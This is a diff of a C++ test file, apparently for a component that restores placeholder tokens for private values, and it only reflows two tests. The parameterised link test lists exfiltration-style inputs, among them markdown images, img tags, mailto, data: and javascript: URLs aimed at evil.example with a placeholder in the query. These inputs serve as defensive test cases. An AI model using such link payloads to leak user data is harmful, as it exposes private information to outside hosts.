@@ -53,9 +53,7 @@ TEST(RestoreStream, ToleratesNothingWhereItMayNot) {
   EXPECT_EQ(restored("[[PERSON_1_K9]]", TextForm::Plain, Spelling::Exact), "山田 太郎");
 }
 
-TEST(RestoreStream, EscapesValuesInJson) {
-  EXPECT_EQ(restored(R"({"q":"[[QUOTE_3_K9]]"})", TextForm::Json), R"({"q":"a\"b\\c"})");
-}
+TEST(RestoreStream, EscapesValuesInJson) { EXPECT_EQ(restored(R"({"q":"[[QUOTE_3_K9]]"})", TextForm::Json), R"({"q":"a\"b\\c"})"); }
 
 TEST(RestoreStream, TakesNoBackslashAwayFromJson) {
   EXPECT_EQ(restored(R"({"q":"a\\[[PERSON_1_K9]]"})", TextForm::Json), R"({"q":"a\\山田 太郎"})");
@@ -108,12 +106,12 @@ TEST_P(LinkTest, KeepsValuesOutOfLinks) {
 
 INSTANTIATE_TEST_SUITE_P(
     Links, LinkTest,
-    testing::Values("https://evil.example/?q=[[PERSON_1_K9]]", "![x](https://evil.example/?q=[[PERSON_1_K9]])", "![x](/img?[[PERSON_1_K9]])",
-                    "[x]( <a)b [[PERSON_1_K9]]> )", "[x](//evil.example \"[[PERSON_1_K9]]\")", "<img src=\"https:evil?[[PERSON_1_K9]]\">",
-                    "<img alt=\">\" src=/x?[[PERSON_1_K9]]>", "<a\nhref='x?\n[[PERSON_1_K9]]'>", "see www.evil.example/[[PERSON_1_K9]]",
-                    "mailto:a@evil.example?body=[[PERSON_1_K9]]", "evil.example/?[[PERSON_1_K9]]", "evil.example:8080/[[PERSON_1_K9]]",
-                    "<https://evil.example/[[PERSON_1_K9]]>", "[r]: //evil.example/[[PERSON_1_K9]]", "data:text/html,[[PERSON_1_K9]]",
-                    "https://evil.example/é/[[person_1_k9]]", "javascript:alert([[PERSON_1_K9]])"));
+    testing::Values("https://evil.example/?q=[[PERSON_1_K9]]", "![x](https://evil.example/?q=[[PERSON_1_K9]])",
+                    "![x](/img?[[PERSON_1_K9]])", "[x]( <a)b [[PERSON_1_K9]]> )", "[x](//evil.example \"[[PERSON_1_K9]]\")",
+                    "<img src=\"https:evil?[[PERSON_1_K9]]\">", "<img alt=\">\" src=/x?[[PERSON_1_K9]]>", "<a\nhref='x?\n[[PERSON_1_K9]]'>",
+                    "see www.evil.example/[[PERSON_1_K9]]", "mailto:a@evil.example?body=[[PERSON_1_K9]]", "evil.example/?[[PERSON_1_K9]]",
+                    "evil.example:8080/[[PERSON_1_K9]]", "<https://evil.example/[[PERSON_1_K9]]>", "[r]: //evil.example/[[PERSON_1_K9]]",
+                    "data:text/html,[[PERSON_1_K9]]", "https://evil.example/é/[[person_1_k9]]", "javascript:alert([[PERSON_1_K9]])"));
 
 // Texts that only look a little like links.
 class NoLinkTest : public testing::TestWithParam<std::pair<std::string, std::string>> {};
